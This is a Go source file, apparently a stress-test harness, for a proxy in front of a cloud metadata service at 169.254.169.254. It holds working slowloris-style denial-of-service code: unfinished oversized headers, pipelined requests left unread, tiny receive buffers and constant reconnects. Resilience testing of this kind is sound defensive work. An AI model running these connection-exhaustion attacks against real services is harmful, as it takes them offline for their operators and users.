package main

import (
	"fmt"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

const (
	// sendTimeout bounds connecting, and sending one payload. A payload fits into the kernel's
	// buffers unless the proxy does not read.
	sendTimeout = 10 * time.Second

	// reconnectPause limits how often a connection is opened again. Without it, each connection
	// that the proxy refuses at once would be opened up to 100 times a second, and the attacker
	// would do nothing else.
	reconnectPause = 200 * time.Millisecond

	// pipelined is how many requests are sent at once on a connection whose answers are never
	// read.
	pipelined = 60

	// smallBuffer is SO_RCVBUF of a connection whose answers are never read.
	smallBuffer = 1024
)

// attack keeps connections open that all send the same payload. It reopens each connection that
// the proxy closes.
type attack struct {
	address string
	payload string
	reads   bool // read the answer, then send the payload again on a new connection

	opened, answered atomic.Int64
}

func newAttack(kind, address string) (*attack, error) {
	a := &attack{address: address}
	kind, path, _ := strings.Cut(kind, "=")
	switch kind {
	case "silent": // sends nothing
	case "lines": // an unfinished header of 19,001 bytes in 3,147 lines
		const lines = 3147
		line := "GET " + padded("/", 19_001-6*lines-len("GET  HTTP/1.1\r\n")) + " HTTP/1.1\r\n"
		a.payload = line + strings.Repeat("aaa:\r\n", lines)
	case "line": // an unfinished header with one line of 15 KiB
		a.payload = "GET / HTTP/1.1\r\nHost: 169.254.169.254\r\nX: " + strings.Repeat("a", 15<<10)
	case "params": // an unfinished header with 1,000 query parameters, about 15 KiB
		a.payload = "GET " + path + "?" + params() + " HTTP/1.1\r\nHost: 169.254.169.254\r\n"
	case "finished-params": // the same, finished
		a.payload = "GET " + path + "?" + params() + " HTTP/1.1\r\nHost: 169.254.169.254\r\nMetadata: true\r\n\r\n"
	case "pipeline":
		a.payload = strings.Repeat(request(path), pipelined)
	case "call":
		a.payload = request(path)
		a.reads = true
	default:
		return nil, fmt.Errorf("unknown kind of attack %q", kind)
	}
	return a, nil
}

func request(target string) string {
	return "GET " + target + " HTTP/1.1\r\nHost: 169.254.169.254\r\nMetadata: true\r\n\r\n"
}

func params() string {
	var b strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&b, "parameter-%04d&", i)
	}
	return b.String()
}

func padded(s string, length int) string { return s + strings.Repeat("a", length-len(s)) }

func (a *attack) start(connections int) {
	for range connections {
		go func() {
			for {
				a.connect()
				time.Sleep(reconnectPause)
			}
		}()
	}
}

func (a *attack) result() any {
	return map[string]int64{"opened": a.opened.Load(), "answered": a.answered.Load()}
}

// connect opens one connection and keeps it open until the proxy closes it.
func (a *attack) connect() {
	dialer := net.Dialer{Timeout: sendTimeout}
	if !a.reads {
		dialer.Control = func(_, _ string, c syscall.RawConn) error {
			return c.Control(func(fd uintptr) {
				_ = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUF, smallBuffer)
			})
		}
	}
	conn, err := dialer.Dial("tcp", a.address)
	if err != nil {
		return
	}
	defer conn.Close()
	a.opened.Add(1)
	if a.reads {
		a.call(conn)
		return
	}
	conn.SetWriteDeadline(time.Now().Add(sendTimeout))
	if _, err := io.WriteString(conn, a.payload); err != nil {
		return
	}
	waitForClose(conn.(*net.TCPConn))
}

// call sends one request and reads an answer with any status. Reading once is enough, because the
// connection is closed afterwards.
func (a *attack) call(conn net.Conn) {
	if _, err := io.WriteString(conn, a.payload); err != nil {
		return
	}
	if _, err := conn.Read(make([]byte, 16<<10)); err == nil {
		a.answered.Add(1)
	}
}

// waitForClose waits until the peer has closed or reset the connection, without reading. The poller
// wakes it when data arrives and when the connection is closed.
func waitForClose(conn *net.TCPConn) {
	raw, err := conn.SyscallConn()
	if err != nil {
		return
	}
	_ = raw.Read(func(fd uintptr) (done bool) {
		info, err := unix.GetsockoptTCPInfo(int(fd), unix.IPPROTO_TCP, unix.TCP_INFO)
		return err != nil || info.State != tcpEstablished
	})
}

// tcpEstablished is TCP_ESTABLISHED in the kernel's tcp_states.h.
const tcpEstablished = 1
